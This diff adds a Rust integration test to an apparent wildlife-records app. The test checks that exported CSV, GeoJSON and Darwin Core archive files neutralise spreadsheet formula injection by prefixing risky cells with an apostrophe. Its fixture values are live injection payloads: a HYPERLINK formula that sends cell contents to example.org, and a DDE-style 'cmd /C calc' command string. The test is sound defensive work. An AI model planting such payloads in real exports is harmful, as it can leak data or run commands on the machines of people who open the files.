@@ -452,3 +452,33 @@ async fn the_public_range_is_made_from_published_places_and_reviewers_see_them_a
     let hull = reviewer["taxa"][0]["periods"][0]["figures"]["eoo"]["hull"].as_array().unwrap().clone();
     assert!(hull.iter().any(|c| c["lat"] == 52.41 && c["lon"] == -4.09), "as recorded for reviewers: {hull:?}");
 }
+
+#[tokio::test]
+async fn text_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_format() {
+    let app = spawn_app().await;
+    let mut record = submission(CATSHARK);
+    record["notes"] = json!("=HYPERLINK(\"http://example.org/?\"&A1,\"see\")");
+    record["species_guess"] = json!("@SUM(1+1)*cmd|' /C calc'!A0");
+    record["observer_name"] = json!("-2+3");
+    assert_eq!(app.submit(&record, &[]).await.status, 200);
+    app.confirm(CATSHARK, "Scyliorhinus canicula", "species").await;
+    // OWASP "CSV Injection": a cell starting with = + - @ (tab, CR) is a formula; a leading ' makes it text.
+    let csv = app.get("/api/export?format=csv&audience=full").await.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_owned();
+    assert_eq!(cell("occurrenceRemarks"), "'=HYPERLINK(\"http://example.org/?\"&A1,\"see\")");
+    assert_eq!(cell("verbatimIdentification"), "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(cell("recordedBy"), "'-2+3");
+    assert_eq!(cell("decimalLongitude"), "-4.082900", "a number stays a number");
+    let geojson: Value = app.get("/api/export?format=geojson&audience=full").await.json().await.unwrap();
+    assert_eq!(
+        geojson["features"][0]["properties"]["occurrenceRemarks"],
+        cell("occurrenceRemarks"),
+        "the same in GeoJSON"
+    );
+    let archive = unzip_all(&app.get("/api/export?format=dwca&audience=full").await.bytes().await.unwrap());
+    assert!(archive.contains("\t'=HYPERLINK(") && !archive.contains("\t=HYPERLINK("), "and in the archive's files");
+    assert!(archive.contains("\t'-2+3\t") && archive.contains("\t-4.082900\t"));
+}
